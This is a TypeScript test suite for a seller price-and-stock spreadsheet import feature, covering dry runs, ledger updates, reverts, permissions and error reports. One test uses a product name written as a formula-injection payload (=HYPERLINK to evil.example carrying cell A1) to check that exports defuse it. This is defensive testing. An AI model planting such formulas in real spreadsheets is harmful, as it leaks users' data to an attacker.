import { Writable } from 'node:stream'
import { asc, eq } from 'drizzle-orm'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ledgerMismatches, changeStock } from '~/features/inventory/stock-ledger.server'
import { SHEET_COLUMNS } from '~/features/imports/import-format'
import { writeTemplate } from '~/features/imports/import-template.server'
import {
  HAS_ERRORS,
  applyImport,
  checkImport,
  getImport,
  importErrorReport,
  listImportRows,
  listImports,
  requestApply,
  revertImport,
  startImport,
} from '~/features/imports/imports.server'
import type { AuthContext } from '~/server/auth/session.server'
import type { Db } from '~/server/db/client.server'
import { prices, productListings, skus, stockMovements, users } from '~/server/db/schema'
import ExcelJS from 'exceljs'
import {
  createProduct,
  createSeller,
  createSku,
  createStore,
  createUser,
  type SkuRow,
} from '../factories/create'
import { closeAuthTestDatabase, openAuthTestDatabase } from './auth-fixtures'
import { authOf, errorOf, executableBytes, tempStorage } from './tickets-fixtures'

let db: Db
const storage = tempStorage()
const HEADER = SHEET_COLUMNS.map((c) => c.header).join(',')

beforeAll(async () => {
  ;({ db } = await openAuthTestDatabase())
})
afterAll(closeAuthTestDatabase)

async function sellerWithSkus(n: number) {
  const seller = await createSeller(db)
  const store = await createStore(db, { seller })
  const list: SkuRow[] = []
  for (let i = 0; i < n; i++)
    list.push(
      await createSku(db, {
        store,
        remainingQuantity: 20 + i,
        tiers: [
          { unitPrice: 100_000, minQuantity: 1 },
          { unitPrice: 90_000, minQuantity: 10 },
        ],
      }),
    )
  return { seller, store, skus: list, auth: await authOf(db, seller.owner.id) }
}

/** A CSV row: SKU, store, product, current, new, always available, then tiers (5 columns × 3). */
function line(sku: string, current: number | '', next: number | '', tiers: (string | number)[][] = []) {
  const cells: (string | number)[] = [sku, 'Store', 'Product', current, next, '']
  for (let slot = 0; slot < 3; slot++) cells.push(...(tiers[slot] ?? ['', '', '', '', '']))
  return cells.map((c) => (typeof c === 'string' && c.includes(',') ? `"${c}"` : c)).join(',')
}

const csv = (lines: string[]) => ({ name: 'prices.csv', bytes: Buffer.from([HEADER, ...lines].join('\n')) })

async function checked(auth: AuthContext, file: { name: string; bytes: Uint8Array }) {
  const { importId } = await startImport(db, auth, file, storage)
  await checkImport(db, importId, storage)
  return importId
}

async function applied(auth: AuthContext, importId: number, mode: 'all_or_nothing' | 'valid_rows') {
  await requestApply(db, auth, importId, mode)
  await applyImport(db, importId, { isLastAttempt: true })
  return getImport(db, auth, importId)
}

const stockOf = async (skuId: number) =>
  (await db.select({ n: skus.remainingQuantity }).from(skus).where(eq(skus.id, skuId)))[0]!.n
const liveTiersOf = (skuId: number) =>
  db
    .select({
      minQuantity: prices.minQuantity,
      unitPrice: prices.unitPrice,
      offerPrice: prices.offerPrice,
      validTo: prices.validTo,
    })
    .from(prices)
    .where(eq(prices.skuId, skuId))
    .orderBy(asc(prices.id))

describe('price and stock import', () => {
  it('dry run shows old → new per row and changes nothing', async () => {
    const s = await sellerWithSkus(3)
    const [a, b, c] = s.skus
    const importId = await checked(
      s.auth,
      csv([
        line(a!.sku, 20, 35),
        line(b!.sku, 21, 21, [
          [1, '120,000', 0, '', ''],
          [10, '110,000', '99,000', '', ''],
        ]),
        line(c!.sku, 22, 22),
      ]),
    )
    const state = await getImport(db, s.auth, importId)
    expect(state).toMatchObject({
      status: 'checked',
      counts: { read: 3, update: 2, unchanged: 1, errors: 0 },
    })
    const { rows } = await listImportRows(db, s.auth, importId, { filter: 'update', page: 1, perPage: 50 })
    expect(rows[0]).toMatchObject({ sku: a!.sku, before: { stock: 20 }, after: { stock: 35 } })
    expect(rows[1]!.after!.tiers!.map((t) => [t.minQuantity, t.unitPrice, t.offerPrice])).toEqual([
      [1, 120_000, 0],
      [10, 110_000, 99_000],
    ])
    expect(await stockOf(a!.id)).toBe(20)
    expect((await liveTiersOf(b!.id)).map((t) => t.unitPrice)).toEqual([100_000, 90_000])
  })

  it('applies through the ledger and the tier rules, refreshes the listing, and reverts exactly', async () => {
    const s = await sellerWithSkus(2)
    const [a, b] = s.skus
    const importId = await checked(
      s.auth,
      csv([
        line(a!.sku, 20, 50),
        line(b!.sku, '', '', [
          [1, 80_000, 0, '', ''],
          [5, 70_000, 0, '', ''],
        ]),
      ]),
    )
    const result = await applied(s.auth, importId, 'all_or_nothing')
    expect(result).toMatchObject({ status: 'applied', counts: { applied: 2, stale: 0 } })
    expect(await stockOf(a!.id)).toBe(50)
    const movement = await db.select().from(stockMovements).where(eq(stockMovements.importId, importId))
    expect(movement).toMatchObject([{ skuId: a!.id, kind: 'import', delta: 30, resultingQuantity: 50 }])
    const tiersAfter = await liveTiersOf(b!.id)
    expect(tiersAfter.filter((t) => t.validTo === null).map((t) => t.unitPrice)).toEqual([80_000, 70_000])
    const [listing] = await db
      .select()
      .from(productListings)
      .where(eq(productListings.productId, b!.productId))
    // The listed price is the entry tier's (the lowest minimum quantity).
    expect(listing?.price).toBe(80_000)

    const revert = await revertImport(db, s.auth, importId)
    expect(revert).toEqual({ reverted: 2, notReverted: [] })
    expect(await stockOf(a!.id)).toBe(20)
    expect((await liveTiersOf(b!.id)).map((t) => [t.unitPrice, t.validTo])).toEqual([
      [100_000, null],
      [90_000, null],
    ])
    const [back] = await db.select().from(productListings).where(eq(productListings.productId, b!.productId))
    expect(back?.price).toBe(100_000)
    expect(await ledgerMismatches(db)).toEqual([])
  })

  it('all or nothing refuses a file with any error; valid rows skips and lists them', async () => {
    const s = await sellerWithSkus(2)
    const [a, b] = s.skus
    const importId = await checked(
      s.auth,
      csv([line(a!.sku, 20, 30), line(b!.sku, 21, 25, [[1, '95,000', '96,000', '', '']])]),
    )
    const { rows } = await listImportRows(db, s.auth, importId, { filter: 'error', page: 1, perPage: 10 })
    expect(rows[0]!.errors).toEqual([`Row 3: tier 1: Offer price 96,000 is not below unit price 95,000`])
    const refused = await errorOf(() => requestApply(db, s.auth, importId, 'all_or_nothing'))
    expect([refused.status, refused.message]).toEqual([422, HAS_ERRORS(1)])
    expect(await stockOf(a!.id)).toBe(20)

    const result = await applied(s.auth, importId, 'valid_rows')
    expect(result.counts).toMatchObject({ applied: 1, skipped: 1 })
    expect(await stockOf(a!.id)).toBe(30)
    expect(await stockOf(b!.id)).toBe(21)
  })

  it('the stock guard: a row whose stock moved since the file was made is not applied', async () => {
    const s = await sellerWithSkus(2)
    const [a, b] = s.skus
    const importId = await checked(s.auth, csv([line(a!.sku, 20, 40), line(b!.sku, 21, 41)]))
    // An order comes in after the check.
    await db.transaction((tx) =>
      changeStock(tx, { skuId: a!.id, delta: -3, kind: 'reservation', actorUserId: null }),
    )
    const result = await applied(s.auth, importId, 'valid_rows')
    expect(result.counts).toMatchObject({ applied: 1, stale: 1 })
    expect(await stockOf(a!.id)).toBe(17)
    expect(await stockOf(b!.id)).toBe(41)
    const { rows } = await listImportRows(db, s.auth, importId, { filter: 'stale', page: 1, perPage: 10 })
    expect(rows.map((r) => r.sku)).toEqual([a!.sku])
  })

  it('never touches another seller’s SKU, and hides whether it exists', async () => {
    const mine = await sellerWithSkus(1)
    const theirs = await sellerWithSkus(1)
    const importId = await checked(
      mine.auth,
      csv([line(theirs.skus[0]!.sku, 20, 999), line('NO-SUCH-SKU', 1, 2)]),
    )
    const { rows } = await listImportRows(db, mine.auth, importId, { filter: 'error', page: 1, perPage: 10 })
    expect(rows.map((r) => r.errors)).toEqual([
      [`Row 2: SKU ${theirs.skus[0]!.sku} is not one of your SKUs`],
      ['Row 3: SKU NO-SUCH-SKU is not one of your SKUs'],
    ])
    await applied(mine.auth, importId, 'valid_rows')
    expect(await stockOf(theirs.skus[0]!.id)).toBe(20)
    // Nor can the other seller read or apply this import.
    expect((await errorOf(() => getImport(db, theirs.auth, importId))).status).toBe(404)
  })

  it('refuses what is not a sheet, and a renamed executable, before storing anything', async () => {
    const s = await sellerWithSkus(1)
    const exe = await errorOf(() =>
      startImport(db, s.auth, { name: 'prices.csv', bytes: executableBytes() }, storage),
    )
    expect(exe.status).toBe(422)
    expect(exe.message).toMatch(/not CSV or XLSX|not a text file/)
    const huge = await errorOf(() =>
      startImport(db, s.auth, { name: 'prices.csv', bytes: new Uint8Array(20 * 1024 * 1024 + 1) }, storage),
    )
    expect([huge.status, huge.message]).toEqual([413, 'The file is larger than 20 MB: split it'])
    const empty = await errorOf(() =>
      startImport(db, s.auth, { name: 'prices.csv', bytes: new Uint8Array() }, storage),
    )
    expect(empty.message).toBe('The file is empty')
  })

  it('a file that cannot be used fails with the reason in words', async () => {
    const s = await sellerWithSkus(1)
    const { importId } = await startImport(
      db,
      s.auth,
      { name: 'p.csv', bytes: Buffer.from('Code,Qty\nA,1\n') },
      storage,
    )
    await checkImport(db, importId, storage)
    expect(await getImport(db, s.auth, importId)).toMatchObject({
      status: 'failed',
      fileError: 'The column "SKU code" is missing',
    })
  })

  it('observers may import stock but not tiers; buyers may not import at all', async () => {
    const s = await sellerWithSkus(1)
    const observer = await createUser(db, { isObserver: true, pointingSellerId: s.seller.id })
    const observerAuth = await authOf(db, observer.id)
    const importId = await checked(
      observerAuth,
      csv([line(s.skus[0]!.sku, 20, 25, [[1, 50_000, 0, '', '']])]),
    )
    const { rows } = await listImportRows(db, observerAuth, importId, {
      filter: 'error',
      page: 1,
      perPage: 10,
    })
    expect(rows[0]!.errors).toEqual(['Row 2: observers can change stock only: leave the tier columns empty'])
    const buyer = await createUser(db)
    expect(
      (await errorOf(async () => startImport(db, await authOf(db, buyer.id), csv([]), storage))).status,
    ).toBe(403)
    await db.update(users).set({ isObserver: false }).where(eq(users.id, observer.id))
  })

  it('the error report is the upload with only the failed rows and an Error column', async () => {
    const s = await sellerWithSkus(2)
    const importId = await checked(s.auth, csv([line(s.skus[0]!.sku, 20, -5), line(s.skus[1]!.sku, 21, 22)]))
    const report = await importErrorReport(db, s.auth, importId, storage)
    const chunks: Buffer[] = []
    for await (const chunk of report.body) chunks.push(Buffer.from(chunk as Buffer))
    const text = Buffer.concat(chunks)
      .toString('utf8')
      .replace(/^\uFEFF/, '')
    const lines = text.trim().split('\n')
    expect(lines).toHaveLength(2)
    expect(lines[0]!.endsWith(',Error')).toBe(true)
    expect(lines[1]).toContain(s.skus[0]!.sku)
    expect(lines[1]).toContain('New stock -5 is negative')
    expect(report.fileName).toBe('prices-errors.csv')
  })
  it('export → import round-trips: an untouched template changes nothing (CSV and XLSX)', async () => {
    const s = await sellerWithSkus(3)
    // A scheduled tier with a start and an end, to carry dates through the sheet.
    await db.insert(prices).values({
      skuId: s.skus[0]!.id,
      minQuantity: 50,
      unitPrice: 85_000,
      offerPrice: 0,
      pricePerPiece: 85_000,
      validFrom: new Date(Date.now() + 3 * 86_400_000),
      validTo: new Date(Date.now() + 30 * 86_400_000),
    })
    for (const kind of ['csv', 'xlsx'] as const) {
      const chunks: Buffer[] = []
      const out = new Writable({
        write(chunk, _e, done) {
          chunks.push(Buffer.from(chunk))
          done()
        },
      })
      await writeTemplate(db, s.seller.id, kind, out, { at: new Date() })
      const importId = await checked(s.auth, { name: `template.${kind}`, bytes: Buffer.concat(chunks) })
      const state = await getImport(db, s.auth, importId)
      expect([kind, state.status, state.counts]).toMatchObject([
        kind,
        'checked',
        { read: 3, unchanged: 3, update: 0, errors: 0 },
      ])
    }
  })

  it('a product named like a formula by another seller is defused in the sheet and round-trips', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    const other = await createSeller(db)
    const product = await createProduct(db, { name: evil, createdBySellerId: other.id })
    const s = await sellerWithSkus(0)
    await createSku(db, { store: s.store, product, remainingQuantity: 9 })
    for (const kind of ['csv', 'xlsx'] as const) {
      const chunks: Buffer[] = []
      const out = new Writable({
        write(chunk, _e, done) {
          chunks.push(Buffer.from(chunk))
          done()
        },
      })
      await writeTemplate(db, s.seller.id, kind, out, { at: new Date() })
      const bytes = Buffer.concat(chunks)
      if (kind === 'csv') {
        const text = bytes.toString('utf8')
        expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`)
        expect(text).not.toMatch(/,"?=HYPERLINK/)
      } else {
        const book = new ExcelJS.Workbook()
        await book.xlsx.load(bytes as unknown as ArrayBuffer)
        expect(book.worksheets[0]!.getRow(2).getCell(3).value).toBe(`'${evil}`)
      }
      const importId = await checked(s.auth, { name: `template.${kind}`, bytes })
      expect((await getImport(db, s.auth, importId)).counts).toMatchObject({
        read: 1,
        unchanged: 1,
        errors: 0,
      })
    }
  })

  it('the history names who uploaded, the mode and the counts, a page at a time', async () => {
    const s = await sellerWithSkus(1)
    await db
      .update(users)
      .set({ firstName: 'Sara', lastName: 'Ahmadi' })
      .where(eq(users.id, s.seller.owner.id))
    const first = await checked(s.auth, csv([line(s.skus[0]!.sku, 20, 21), line('NOPE', 1, 2)]))
    await applied(s.auth, first, 'valid_rows')
    for (let i = 0; i < 11; i++) await checked(s.auth, csv([line(s.skus[0]!.sku, 21, 22)]))
    const page1 = await listImports(db, s.auth, { page: 1, perPage: 10 })
    expect(page1.total).toBe(12)
    expect(page1.imports).toHaveLength(10)
    const page2 = await listImports(db, s.auth, { page: 2, perPage: 10 })
    expect(page2.imports.map((i) => i.id).at(-1)).toBe(first)
    expect(page2.imports.at(-1)).toMatchObject({
      uploadedBy: 'Sara Ahmadi',
      mode: 'valid_rows',
      counts: { read: 2, applied: 1, errors: 1, skipped: 1, stale: 0 },
    })
    // Another seller's history is their own.
    const other = await sellerWithSkus(0)
    expect((await listImports(db, other.auth, { page: 1, perPage: 10 })).total).toBe(0)
  })
})
